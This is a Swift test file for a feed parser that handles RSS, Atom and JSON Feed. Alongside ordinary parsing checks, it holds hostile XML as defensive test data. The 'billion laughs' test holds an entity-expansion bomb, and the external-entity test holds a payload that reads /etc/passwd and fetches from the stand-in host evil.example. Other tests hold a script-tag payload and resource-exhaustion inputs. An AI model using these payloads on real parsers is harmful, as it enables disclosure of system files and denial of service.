import Testing

@testable import ForeignFiles

@Suite("Feeds")
struct FeedTests {
  static func feed(_ text: String) throws -> Feed { try #require(Feed(Array(text.utf8))) }

  @Test("RSS 2.0 entries have all their parts")
  func rss2() throws {
    let feed = try Self.feed(
      """
      <?xml version="1.0"?>
      <rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
      <channel><title>Gazette</title><language>fr</language><link>https://g.example/</link>
      <image><title>Logo</title></image>
      <item>
        <title>Pain &amp;amp; vin</title><link>https://g.example/1</link><dc:creator>Ada</dc:creator>
        <description><![CDATA[<p>Un <b>bon</b> pain</p>]]></description><content:encoded>&lt;p&gt;Tout&lt;/p&gt;</content:encoded>
        <pubDate>Fri, 20 Nov 2026 10:00:00 +0100</pubDate>
      </item>
      <item><guid>https://g.example/2</guid><author>bo@g.example (Bo)</author><description>d&eacute;j&agrave;&nbsp;vu</description></item>
      <item><guid isPermaLink="false">42</guid></item>
      </channel></rss>
      """)
    #expect(feed.issue == nil)
    #expect(feed.title == "Gazette" && feed.language == "fr")
    #expect(feed.items.map(\.link) == ["https://g.example/1", "https://g.example/2", nil])
    #expect(feed.items.map(\.author) == ["Ada", "Bo", nil])
    #expect(feed.items.map(\.line) == [5, 10, 11])
    #expect(feed.items[0].title?.words == "Pain & vin")
    #expect(feed.items[0].content?.words == "Tout")
    #expect(feed.items[0].dates == ["Fri, 20 Nov 2026 10:00:00 +0100"])
    #expect(feed.items[1].content?.words == "déjà\u{A0}vu")
  }

  @Test("RSS 1.0 keeps its entries beside the channel")
  func rss1() throws {
    let feed = try Self.feed(
      """
      <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
        xmlns:dc="http://purl.org/dc/elements/1.1/">
      <channel rdf:about="https://g.example/"><title>G</title><items><rdf:Seq><rdf:li resource="a"/></rdf:Seq></items></channel>
      <item rdf:about="https://g.example/1"><title>One</title><link>https://g.example/1</link><dc:date>2026-11-20T10:00:00Z</dc:date></item>
      </rdf:RDF>
      """)
    #expect(feed.items.map(\.link) == ["https://g.example/1"])
    #expect(feed.items.first?.dates == ["2026-11-20T10:00:00Z"])
    #expect(feed.title == "G")
  }

  @Test("Atom entries have the page's link and all kinds of text, but nothing from their source feed")
  func atom() throws {
    let feed = try Self.feed(
      """
      <feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en"><title type="text">Alerts</title>
      <entry><id>tag:1</id><title type="html">Rye &lt;b&gt;bread&lt;/b&gt;</title>
        <link rel="self" href="https://g.example/self"/><link href="https://g.example/1"/>
        <published>2026-11-20T10:00:00Z</published><updated>2026-11-21T10:00:00Z</updated>
        <source><title>Elsewhere</title><author><name>Nobody</name></author><updated>2020-01-01</updated></source>
        <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">1 &lt; 2<p>so</p>it is</div></content>
        <author><name>Ada</name><email>a@g.example</email></author></entry>
      </feed>
      """)
    let item = try #require(feed.items.first)
    #expect(feed.format == .atom && feed.language == "en" && feed.title == "Alerts")
    #expect(item.link == "https://g.example/1")
    #expect(item.title?.words == "Rye bread")
    #expect(item.content?.words == "1 < 2 so it is")
    #expect(item.author == "Ada")
    #expect(item.dates == ["2026-11-20T10:00:00Z", "2026-11-21T10:00:00Z"])
  }

  @Test("JSON Feed may have unknown members of any depth")
  func json() throws {
    let deep = String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000)
    let feed = try Self.feed(
      """
      {"version": "https://jsonfeed.org/version/1.1", "title": "G", "_x": \(deep), "items": [
        {"id": 7, "url": "https://g.example/1", "content_html": "<p>\\u00c9t\\u00e9 \\ud83d\\ude00</p>", "authors": [{"name": "Ada"}, {"name": "Bo"}],
         "date_published": "2026-11-20T10:00:00Z", "tags": ["a", {"b": null}]},
        17,
        {"id": "https://g.example/2", "content_text": "a < b"}
      ]}
      """)
    #expect(feed.issue == nil)
    #expect(feed.items.map(\.link) == ["https://g.example/1", "https://g.example/2"])
    #expect(feed.items.first?.content?.words == "Été 😀")
    #expect(feed.items.first?.author == "Ada")
    #expect(feed.items.last?.content?.words == "a < b")
    #expect(feed.items.map(\.line) == [2, 5])
  }

  @Test("expanding entities end the feed, not the program")
  func billionLaughs() throws {
    var entities = "<!ENTITY l0 \"ha\">"
    for level in 1...12 {
      entities += "<!ENTITY l\(level) \"\(String(repeating: "&l\(level - 1);", count: 10))\">"
    }
    let feed = try Self.feed(
      """
      <?xml version="1.0"?><!DOCTYPE rss [\(entities)]>
      <rss><channel><item><title>One</title><link>https://g.example/1</link></item>
      <item><title>&l12;</title></item></channel></rss>
      """)
    #expect(feed.items.map(\.link) == ["https://g.example/1"])
    #expect(feed.issue?.line == 3)
  }

  @Test("no file outside is read")
  func externalEntity() throws {
    let feed = try Self.feed(
      """
      <!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "https://evil.example/p"> %p;]>
      <rss><channel><item><title>[&x;]</title><link>https://g.example/1</link></item></channel></rss>
      """)
    #expect(feed.items.first?.title?.words == "[]")
    #expect(feed.issue == nil)
  }

  @Test(
    "an incomplete feed keeps the entries before the break",
    arguments: [
      "<rss><channel><item><link>https://g.example/1</link></item><item><link>https://g.exa",
      "{\"items\": [{\"url\": \"https://g.example/1\"}, {\"url\": \"https",
      "{\"items\": [{\"url\": \"https://g.example/1\"} 3]}",
    ])
  func brokenOff(_ text: String) throws {
    let feed = try Self.feed(text)
    #expect(feed.items.map(\.link) == ["https://g.example/1"])
    #expect(feed.issue != nil)
  }

  @Test("the declared encoding is used")
  func latin() throws {
    var bytes = Array("<?xml version='1.0' encoding='iso-8859-15'?><rss><channel><item><title>".utf8)
    bytes += [0xE9, 0x74, 0xE9, 0x20, 0xA4] + Array("</title></item></channel></rss>".utf8)
    #expect(try #require(Feed(bytes)).items.first?.title?.words == "été €")
  }

  @Test(
    "HTML becomes words, even if it is invalid",
    arguments: [
      ("<p>One<br>two</p><script>alert('x')</script>three", "One two three"),
      ("a<b>b</b>c <!-- <i>no</i> --> d", "abc d"), ("1 < 2 & 3 > 2", "1 < 2 & 3 > 2"),
      ("<a title=\"a>b\" href=x>link</a>", "link"),
      ("caf&eacute;&#33; &#x1F600; &unknown; &copy", "café! 😀 &unknown; &copy"),
      ("<style>p{}</STYLE >x<script>never closed", "x"), ("<!-- never closed", ""), ("<p", ""),
      ("&#0;&#xD800;&#99999999;", "���"),
      ("a\u{202E}b\u{200B}c\u{7}d", "abc d"),
    ])
  func html(_ html: String, _ words: String) { #expect(HTMLText.words(of: html) == words) }

  @Test("large and nested inputs take proportional time")
  func large() throws {
    let nested = "<rss><channel><item><title>" + String(repeating: "<b>", count: 200_000)
    #expect(try Self.feed(nested).issue != nil)
    #expect(HTMLText.words(of: String(repeating: "<a href='", count: 200_000)).isEmpty)
    #expect(HTMLText.words(of: String(repeating: "<script>", count: 100_000)).isEmpty)
    #expect(HTMLText.words(of: String(repeating: "<!--", count: 100_000)).isEmpty)
    let text = String(repeating: "x", count: 1 << 20)
    let feed = try Self.feed("<rss><channel><item><title>\(text)</title></item></channel></rss>")
    #expect(feed.items.first?.title?.text.utf8.count == Feed.textLimit)
  }
}
